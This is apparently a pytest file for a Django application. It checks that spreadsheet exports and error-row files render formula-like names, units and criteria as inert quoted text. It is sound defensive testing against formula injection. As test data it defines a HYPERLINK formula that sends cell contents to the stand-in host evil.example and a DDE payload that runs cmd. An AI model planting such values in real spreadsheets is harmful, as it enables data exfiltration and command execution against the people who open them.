"""Every .xlsx the system writes goes through one writer (``coso.imports.export.save_to_bytes``
or ``write_sheet``) that turns formula-like text into plain text: names of people, units,
criteria, target groups, typed values sent back in failed rows (issue 11, point 6)."""

import io
import re
from pathlib import Path

from django.conf import settings
from openpyxl import load_workbook

from coso.imports import export, reader, safety, workbooks
from coso.imports.columns import COLUMNS
from coso.org.models import Unit
from coso.people.models import Person, TargetGroup
from coso.programme import registration_import
from coso.programme import services as programme_services
from coso.programme.models import Criterion
from coso.visits import visit_import

HOSTILE = '=HYPERLINK("http://evil.example/?"&B2,"Mở")'
OTHERS = ["+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "#N/A"]


def _cells(content):
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield sheet.title, cell


def _assert_inert(content, must_contain):
    texts = []
    for title, cell in _cells(content):
        assert cell.data_type not in ("f", "e"), f"{title}!{cell.coordinate} is a live {cell.data_type}: {cell.value!r}"
        if isinstance(cell.value, str):
            texts.append(cell.value)
            if export.looks_like_formula(cell.value):
                assert cell.quotePrefix, f"{title}!{cell.coordinate} lacks the quote prefix: {cell.value!r}"
    joined = "\n".join(texts)
    for text in must_contain:
        assert text in joined, f"{text!r} never reached the workbook"


def _hostile_names(tree):
    Person.objects.filter(pk=tree.member_trason2.pk).update(family_name=HOSTILE)
    Person.objects.filter(pk=tree.movement_cadre.pk).update(family_name=OTHERS[0])
    for person in Person.objects.filter(pk__in=[tree.member_trason2.pk, tree.movement_cadre.pk]):
        person.save()  # refresh the stored name keys
    Unit.objects.filter(pk=tree.bactramy.pk).update(name=OTHERS[1])
    Unit.objects.filter(pk=tree.province.pk).update(name=OTHERS[1])
    TargetGroup.objects.filter(code="dia-ban-dan-cu").update(name=OTHERS[2])


def test_templates_name_hostile_people_units_and_criteria_as_text(tree):
    _hostile_names(tree)
    programme = programme_services.district8_2014(tree.bactramy, actor=tree.users["district_standing"])
    Criterion.objects.filter(programme=programme, code="RL-01").update(title=HOSTILE)
    branch = Unit.objects.get(pk=tree.branch_trason.pk)

    registration = registration_import.template_bytes(programme, branch)
    _assert_inert(registration, [HOSTILE])
    visits = visit_import.template_bytes(tree.users["movement_cadre"])
    _assert_inert(visits, [OTHERS[0]])
    persons = workbooks.template_bytes("persons", tree.users["district_standing"])
    _assert_inert(persons, [OTHERS[2]])
    units = workbooks.template_bytes("units", tree.users["district_standing"])
    _assert_inert(units, [])


def test_exports_and_failed_rows_keep_hostile_text_as_text(tree):
    rows = [[value, 1, None] for value in [HOSTILE, *OTHERS]]
    _assert_inert(export.xlsx_bytes(["Họ và tên", "Số", "Trống"], rows), [HOSTILE, *OTHERS])

    headers = [c.header for c in COLUMNS["persons"]][:3]
    upload = export.xlsx_bytes(headers, [[HOSTILE, OTHERS[0], OTHERS[3]]])  # typed as text by an officer
    sheet = reader.read(upload, safety.check_upload("tep.xlsx", upload), "persons")
    failed = workbooks.error_rows_bytes(sheet, [{"row": 2, "column": headers[0], "message": HOSTILE, "code": "x"}])
    _assert_inert(failed, [HOSTILE, OTHERS[0]])


def test_no_module_saves_a_workbook_but_the_one_writer():
    root = Path(settings.BASE_DIR) / "coso"
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or path.name == "export.py":
            continue
        text = path.read_text(encoding="utf-8")
        if "openpyxl" in text and re.search(r"\.save\(", text) and "save_to_bytes" not in text:
            offenders.append(str(path.relative_to(root)))
        if re.search(r"\b(workbook|book|wb)\.save\(", text):
            offenders.append(str(path.relative_to(root)))
    assert not offenders, f"workbooks saved outside coso/imports/export.py save_to_bytes: {offenders}"
